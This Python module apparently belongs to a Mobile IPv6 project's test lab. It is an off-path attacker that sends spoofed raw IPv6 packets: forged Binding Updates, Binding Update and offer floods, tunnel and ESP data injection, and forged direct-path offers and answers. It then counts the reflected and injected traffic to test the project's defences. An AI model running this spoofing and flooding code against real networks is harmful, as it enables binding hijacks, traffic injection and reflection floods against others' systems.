"""An off-path attacker, run in the lab's ``atk`` namespace: ``python -m mipnode.lab.attack``.

``KIND [--count N] [--rate PPS] [--seconds S] [--listen S]`` sends one attack of issue 12 with
forged source addresses (an IPPROTO_RAW socket writes whole IPv6 packets), then listens
``--listen`` seconds, and prints one JSON line: what it sent (packets, octets) and what came
back to the addresses it used as sources or named in candidates (``reflected_*``: the prefix
REFLECT is routed to this node, so answers to spoofed sources there arrive here).

Kinds (the packets are the project's own encoders, the keys and MACs the attacker's own):

- ``forged-bu``: Binding Updates for the home address from its care-of address, with a MAC
  under a key the attacker made up (what drew a signed status 146 once);
- ``bu-flood``: the same from sources in REFLECT, at ``--rate`` for ``--seconds``;
- ``inject-to-ha``: data in the tunnel to the HA (IPv6-in-IPv6 and UDP 4191) from the care-of
  address, inner source the home address, to the CN's port MARK_PORT;
- ``inject-to-mn``: data to the care-of address from the HA's address (IPv6-in-IPv6 and ESP
  under a made-up SPI), inner packet to the home address's port MARK_PORT;
- ``forged-offer``: a direct-path offer to the CN from the home address, its candidates in
  REFLECT, with the attacker's own ICE password and key share;
- ``forged-answer``: an answer to the home address from the CN's address, naming a guessed
  offer;
- ``offer-flood``: offers from random home addresses of the home prefix at ``--rate``.

``listen PORT``: count UDP datagrams that carry MARK on PORT until stdin closes (run in a victim
namespace: injected data that got through).
"""

from __future__ import annotations

import argparse
import json
import os
import random
import select
import socket
import sys
import time
from ipaddress import IPv6Address, IPv6Network

from mipnode.wire import mice
from mipnode.wire.auth4285 import encode_mh_authenticated, ntp_from_unix
from mipnode.wire.ipv6 import NH_MH
from mipnode.wire.keyshare import KeyShare
from mipnode.wire.mh import (
    AlternateCareOfAddress,
    BindingUpdate,
    ExperimentalMessage,
    MesgId,
    encode_mh,
)
from mipnode.wire.packets import ipv6_packet, udp_in_ipv6

HA = IPv6Address("2001:db8:1::1")
HOA = IPv6Address("2001:db8:1::100")
HOME = IPv6Network("2001:db8:1::/64")
COA = IPv6Address("2001:db8:a::2")
CN = IPv6Address("2001:db8:c::2")
SPI = 1000
ATTACKER = "2001:db8:e::2"
REFLECT = IPv6Network("2001:db8:e:1::/64")
MARK_PORT = 5999
MARK = b"mipnode-lab-injected"
NH_IPV6, NH_ESP = 41, 50
ETH_P_IPV6 = 0x86DD
PACING_S = 0.005
KINDS = (
    "forged-bu",
    "bu-flood",
    "inject-to-ha",
    "inject-to-mn",
    "forged-offer",
    "forged-answer",
    "offer-flood",
)


def _reflect(rng: random.Random) -> IPv6Address:
    return REFLECT[rng.randrange(1, 2**16)]


def forged_bu(rng: random.Random, outer_src: IPv6Address = COA) -> tuple[bytes, IPv6Address]:
    bu = BindingUpdate(
        sequence=rng.randrange(1 << 16),
        lifetime=150,
        ack=True,
        home=True,
        options=(AlternateCareOfAddress(COA), MesgId(ntp_from_unix(time.time()))),
    )
    mh = encode_mh_authenticated(bu, HOA, HA, spi=SPI, key=rng.randbytes(20), coa=COA, hoa=HOA)
    return ipv6_packet(outer_src, HA, NH_IPV6, ipv6_packet(HOA, HA, NH_MH, mh)), HA


def _description(rng: random.Random, answer_to: str | None) -> ExperimentalMessage:
    items: list[mice.MiceItem] = [mice.Credentials(f"atk{rng.randrange(10**4)}", "A" * 24)]
    if answer_to is not None:
        items.append(mice.AnswerTo(answer_to))
    for i in range(8):
        address = _reflect(rng)
        items.append(mice.Candidate(str(i + 1), 2**24 + i, "host", address, 40000 + i))
    items.append(mice.EndOfCandidates())
    items.append(KeyShare(1, 0x8000_0000 | rng.randrange(1 << 31), rng.randbytes(32)))
    return ExperimentalMessage(mice.mice_options(items))


def packets(kind: str, rng: random.Random) -> list[tuple[bytes, IPv6Address]]:
    """One round of ``kind``: (whole IPv6 packet, destination) pairs."""
    if kind == "forged-bu":
        return [forged_bu(rng)]
    if kind == "bu-flood":
        return [forged_bu(rng, _reflect(rng))]
    if kind == "inject-to-ha":
        inner = udp_in_ipv6(HOA, CN, 40000, MARK_PORT, MARK)
        return [
            (ipv6_packet(COA, HA, NH_IPV6, inner), HA),
            (udp_in_ipv6(COA, HA, 40001, 4191, inner), HA),
        ]
    if kind == "inject-to-mn":
        inner = udp_in_ipv6(CN, HOA, 40000, MARK_PORT, MARK)
        esp = (0x8000_0000 | rng.randrange(1 << 31)).to_bytes(4, "big") + rng.randbytes(68)
        return [
            (ipv6_packet(HA, COA, NH_IPV6, inner), COA),
            (ipv6_packet(HA, COA, NH_ESP, esp), COA),
        ]
    if kind == "forged-offer":
        mh = encode_mh(_description(rng, None), HOA, CN)
        return [(ipv6_packet(HOA, CN, NH_MH, mh), CN)]
    if kind == "forged-answer":
        mh = encode_mh(_description(rng, f"gs{rng.randrange(10**6)}"), CN, HOA)
        return [(ipv6_packet(CN, HOA, NH_MH, mh), HOA)]
    if kind == "offer-flood":
        hoa = HOME[rng.randrange(0x200, 2**32)]
        mh = encode_mh(_description(rng, None), hoa, CN)
        return [(ipv6_packet(hoa, CN, NH_MH, mh), CN)]
    raise ValueError(kind)


class Reflected:
    """What arrives for the attacker's own address or its REFLECT prefix (AF_PACKET on eth0,
    neighbour discovery left out)."""

    def __init__(self, ifname: str = "eth0") -> None:
        # SOCK_DGRAM: frames without their Ethernet header, the IPv6 header first.
        self.sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_IPV6))
        self.sock.bind((ifname, ETH_P_IPV6))
        self.sock.setblocking(False)
        self.packets = self.octets = 0
        self._mine = IPv6Address(ATTACKER).packed

    def drain(self, until: float) -> None:
        while (left := until - time.monotonic()) > 0:
            if not select.select([self.sock], [], [], left)[0]:
                return
            try:
                frame, addr = self.sock.recvfrom(65535)
            except BlockingIOError:
                continue
            if addr[2] == socket.PACKET_OUTGOING or len(frame) < 40:
                continue
            dst = frame[24:40]
            if frame[6] == 58 and len(frame) > 40 and 133 <= frame[40] <= 137:
                continue  # neighbour discovery
            if dst == self._mine or IPv6Address(dst) in REFLECT:
                self.packets += 1
                self.octets += len(frame)


def attack(kind: str, count: int, rate: float, seconds: float, listen: float) -> dict[str, object]:
    rng = random.Random(int.from_bytes(os.urandom(8), "big"))
    out = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    reflected = Reflected()
    sent = octets = rounds = 0
    started = time.monotonic()

    def more() -> bool:
        if seconds:
            return time.monotonic() - started < seconds
        return rounds < count

    while more():
        # Paced in bursts: every round due by now goes out, then the sender sleeps (5 ms,
        # listening meanwhile), so one sender process makes the rate without spinning a core.
        due = int((time.monotonic() - started) * rate) + 1 if rate else rounds + 1
        while rounds < due and more():
            for packet, dst in packets(kind, rng):
                try:
                    out.sendto(packet, (str(dst), 0))
                    sent += 1
                    octets += len(packet)
                except OSError:
                    pass
            rounds += 1
        if rate:
            reflected.drain(time.monotonic() + PACING_S)
    took = time.monotonic() - started
    reflected.drain(time.monotonic() + listen)
    return {
        "kind": kind,
        "sent_packets": sent,
        "sent_octets": octets,
        "seconds": round(took, 3),
        "rate_pps": round(sent / took, 1) if took > 0 else None,
        "reflected_packets": reflected.packets,
        "reflected_octets": reflected.octets,
    }


def listen(port: int) -> dict[str, int]:
    """Count MARK datagrams on ``port`` until stdin closes."""
    sock = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    sock.bind(("::", port))
    print("listening", flush=True)
    got = 0
    while True:
        ready = select.select([sock, sys.stdin], [], [])[0]
        if sock in ready:
            data = sock.recv(65535)
            got += MARK in data
        if sys.stdin in ready and not sys.stdin.readline():
            return {"injected_received": got}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m mipnode.lab.attack")
    parser.add_argument("kind", choices=(*KINDS, "listen"))
    parser.add_argument("port", nargs="?", type=int, default=MARK_PORT)
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--rate", type=float, default=0.0)
    parser.add_argument("--seconds", type=float, default=0.0)
    parser.add_argument("--listen", type=float, default=3.0)
    args = parser.parse_args(argv)
    if args.kind == "listen":
        print(json.dumps(listen(args.port)), flush=True)
    else:
        report = attack(args.kind, args.count, args.rate, args.seconds, args.listen)
        print(json.dumps(report), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
